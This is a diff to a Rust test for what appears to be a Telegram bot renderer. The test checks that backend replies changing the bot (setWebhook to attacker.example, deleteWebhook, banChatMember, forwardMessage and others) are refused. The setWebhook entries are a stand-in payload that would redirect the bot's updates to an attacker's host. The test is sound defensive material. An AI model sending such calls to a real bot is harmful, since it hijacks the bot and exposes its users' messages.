@@ -38,6 +38,14 @@ fn a_reply_is_a_send_message_to_the_updates_chat_and_nowhere_else() {
         serde_json::json!({"chat_id": 1}),
         serde_json::json!({"method": "send message"}),
         serde_json::json!("sendMessage"),
+        // Methods that change the bot, not answer the chat — in any spelling Telegram would accept.
+        serde_json::json!({"method": "setWebhook", "url": "https://attacker.example/hook"}),
+        serde_json::json!({"method": "SETWEBHOOK", "url": "https://attacker.example/hook"}),
+        serde_json::json!({"method": "deleteWebhook"}),
+        serde_json::json!({"method": "setMyCommands", "commands": []}),
+        serde_json::json!({"method": "banChatMember", "user_id": 1}),
+        serde_json::json!({"method": "forwardMessage", "from_chat_id": 2, "message_id": 3}),
+        serde_json::json!({"method": "sendmessage", "text": "x"}),
     ] {
         assert!(renderer
             .render(&BackendReply::Raw(refused), &context)
